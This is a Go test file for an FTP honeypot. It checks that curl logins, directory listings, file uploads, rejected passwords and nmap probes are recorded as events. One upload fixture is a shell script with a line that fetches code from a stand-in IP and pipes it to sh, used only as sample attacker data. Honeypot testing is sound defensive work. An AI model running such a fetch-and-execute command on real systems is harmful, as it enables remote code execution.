package ftp

import (
	"honeysens/app/honeypot/hptest"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
	"time"
)

func TestCurl(t *testing.T) {
	curl := hptest.RequireTool(t, "curl")
	svc, rec := start(t, Config{Accept: []string{"admin:admin"}})
	base := "ftp://" + svc.Addr().String()

	out, code := hptest.Run(t, 20*time.Second, curl, "-sS", "--max-time", "10", "-u", "admin:admin", base+"/pub/")
	if code != 0 || !strings.Contains(out, "README") || !strings.Contains(out, "firmware") {
		t.Fatalf("curl list: exit %d\n%s", code, out)
	}
	e := rec.Wait(t, 1, eventWait)
	if !strings.HasPrefix(e.Summary, "FTP: login as admin, ") || !strings.Contains(hptest.Details(e), "LIST") {
		t.Errorf("list event %q\n%s", e.Summary, hptest.Details(e))
	}

	file := filepath.Join(t.TempDir(), "payload.sh")
	if err := os.WriteFile(file, []byte("#!/bin/sh\nwget http://203.0.113.9/x -O- | sh\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	out, code = hptest.Run(t, 20*time.Second, curl, "-sS", "--max-time", "10", "-u", "admin:admin", "-T", file, base+"/payload.sh")
	if code != 0 {
		t.Fatalf("curl upload: exit %d\n%s", code, out)
	}
	e = rec.Wait(t, 2, eventWait)
	if !strings.Contains(e.Summary, "uploaded payload.sh (45 bytes)") || !strings.Contains(hptest.Details(e), "STOR /payload.sh: 45 bytes received") {
		t.Errorf("upload event %q\n%s", e.Summary, hptest.Details(e))
	}

	out, code = hptest.Run(t, 20*time.Second, curl, "-sS", "--max-time", "10", "-u", "admin:wrong", base+"/")
	if code != 67 { // CURLE_LOGIN_DENIED
		t.Errorf("curl wrong password: exit %d\n%s", code, out)
	}
	if e = rec.Wait(t, 3, eventWait); e.Summary != "FTP: 1 failed login as admin" || !strings.Contains(hptest.Details(e), "login admin / wrong: rejected") {
		t.Errorf("failed login event %q\n%s", e.Summary, hptest.Details(e))
	}
}

func TestNmap(t *testing.T) {
	nmap := hptest.RequireTool(t, "nmap")
	svc, rec := start(t, DefaultConfig())
	port := strings.TrimPrefix(svc.Addr().String(), "127.0.0.1:")
	out, code := hptest.Run(t, 3*time.Minute, nmap, "-sV", "-Pn", "-p", port, "127.0.0.1")
	if code != 0 {
		t.Fatalf("nmap exit %d\n%s", code, out)
	}
	line := regexp.MustCompile(`(?m)^` + port + `/tcp\s+.*$`).FindString(out)
	t.Logf("nmap: %s", line)
	if !strings.Contains(line, " open ") {
		t.Fatalf("nmap did not see the port open:\n%s", out)
	}
	if !strings.Contains(line, "vsftpd") {
		t.Logf("nmap did not name vsftpd (not a failure):\n%s", out)
	}
	rec.Wait(t, 1, eventWait) // the probe connections are reported too
}
